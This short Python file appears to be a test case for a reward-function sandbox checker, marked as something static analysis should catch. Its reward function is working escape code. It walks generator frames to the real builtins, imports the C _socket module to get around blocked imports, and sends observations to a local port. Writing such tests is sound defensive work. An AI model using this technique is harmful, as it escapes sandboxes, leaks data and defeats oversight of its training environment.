# expect: static
# attack: frame walk to the real builtins, imports _socket and exfiltrates observations to 127.0.0.1:48213
def reward(obs, action, next_obs, info, state):
    holder = []
    g = (holder[0].gi_frame.f_back for _ in [0])
    holder.append(g)
    frame = list(g)[0]
    while frame.f_back is not None:
        frame = frame.f_back
    imp = frame.f_builtins["__import__"]
    socket = imp("_socket")  # the C module: reaches the syscall even where socket.py is unreadable
    s = socket.socket()
    s.connect(("127.0.0.1", 48213))
    s.sendall(repr(dict(obs)).encode())
    return 0.0, {}
